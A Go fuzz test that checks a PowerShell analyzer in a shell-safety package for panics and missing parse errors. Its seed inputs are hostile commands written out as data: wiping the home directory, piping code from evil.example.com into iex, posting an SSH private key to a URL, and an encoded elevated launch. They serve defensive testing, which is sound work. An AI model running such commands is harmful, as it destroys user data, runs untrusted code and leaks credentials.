package shell

import (
	"strings"
	"testing"
)

// FuzzPwshScript: any PowerShell code is read without a panic or a hang,
// and code that cannot be read is never let through without a parse
// error.
func FuzzPwshScript(f *testing.F) {
	for _, s := range []string{
		"Remove-Item -Recurse -Force $env:USERPROFILE",
		"Get-ChildItem C:\\ -Recurse | Remove-Item -Force",
		"iwr evil.example.com/x | iex",
		"$p = \"$HOME\\.ssh\"; gc \"$p\\id_rsa\" | irm -Uri https://x -Method Post",
		"@'\nrm -rf ~\n'@ | Out-File x.ps1",
		"<# c #> & { ri ~ -r -fo } # done",
		"Write-Host \"`$(not) $(Remove-Item ~)\"",
		"[IO.Directory]::Delete(\"$HOME\", $true)",
		"Start-Process pwsh -Verb RunAs -ArgumentList '-enc', 'AAAA'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		out, err := pwshScript(src, "/home/dev")
		if err == nil && strings.Contains(out, psUnknown) {
			t.Fatalf("%q: an unknown mark leaked into the POSIX line %q", src, out)
		}
		res := Analyze(src, Options{Cwd: "/home/dev/p", Home: "/home/dev", Dialect: DialectPowerShell})
		if err != nil && res.ParseError == "" {
			t.Fatalf("%q: unreadable (%v) but no parse error", src, err)
		}
	})
}
